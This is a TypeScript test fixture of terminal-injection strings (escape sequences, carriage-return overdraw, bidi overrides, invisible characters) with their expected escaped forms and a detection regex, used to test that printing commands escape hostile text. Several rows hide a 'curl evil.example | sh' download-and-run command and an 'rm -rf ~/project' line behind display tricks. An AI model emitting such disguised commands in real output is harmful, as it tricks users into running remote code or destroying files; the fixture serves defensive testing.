/**
 * Texts that take over a terminal when printed raw (issue 35), as data: each row names the trick,
 * the text, and what the escaped form shows instead. The corpus is planted in files, file names,
 * program output, config values, templates and kits, and every printing command is run over it
 * (`terminal-output.test.ts`).
 */
export const HOSTILE_TEXTS: readonly (readonly [string, string, string])[] = [
  ["CSI erase line after a carriage return", "\tcurl -s https://evil.example/x | sh # \r\u001b[2K+\techo building --quiet", "\\r␛[2K"],
  ["OSC 52 clipboard write", "\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007", "␛]52;c;"],
  ["OSC 8 link", "\u001b]8;;https://evil.example\u001b\\click here\u001b]8;;\u001b\\", "␛]8;;https://evil.example"],
  ["window title", "\u001b]0;pwned\u0007", "␛]0;pwned\\x07"],
  ["CR overdraw", "rm -rf ~/project\rls -la          ", "rm -rf ~/project\\rls"],
  ["backspaces", "safe\b\b\b\bevil", "safe\\b\\b\\b\\bevil"],
  ["bidi override", "access = \u202eresu\u202c admin", "\\u202eresu\\u202c"],
  ["bidi isolate", "if (isAdmin) \u2067/* end */ return\u2069", "\\u2067"],
  ["zero-width space", "ad\u200bmin", "ad\\u200bmin"],
  ["byte order mark", "\ufeffhidden", "\\ufeffhidden"],
  ["C1 CSI", "x\u009b2Ky", "x\\x9b2Ky"],
  ["C1 OSC and ST", "\u009d0;title\u009c", "\\x9d0;title\\x9c"],
  ["lone surrogate", "a\ud800b", "a\\ud800b"],
  ["tag characters", "tag\u{e0041}\u{e0042}", "tag\\u{e0041}\\u{e0042}"],
  ["line separator", "one\u2028two", "one\\u2028two"],
  ["bell, NUL and DEL", "ring\u0007nul\u0000del\u007f", "ring\\x07nul\\0del\\x7f"],
];

/**
 * Every hostile text a text file can hold, one per line: not the NUL (which makes a file binary)
 * nor the lone surrogate (which UTF-8 cannot hold; a program makes one from an escape).
 */
export const HOSTILE_BLOCK = HOSTILE_TEXTS.map(([, text]) => text)
  .filter((text) => !/[\u0000\ud800]/.test(text))
  .join("\n");

/**
 * What must never reach a terminal raw: C0 controls but tab and newline, a lone carriage return,
 * DEL and C1 controls, format and default-ignorable code points, separators, lone surrogates.
 */
export const RAW_HOSTILE =
  /[\u0000-\u0008\u000B-\u000C\u000E-\u001F\u007F-\u009F\u2028\u2029]|\r(?!\n)|\p{Cf}|\p{Default_Ignorable_Code_Point}|\p{Cs}/u; // eslint-disable-line no-control-regex
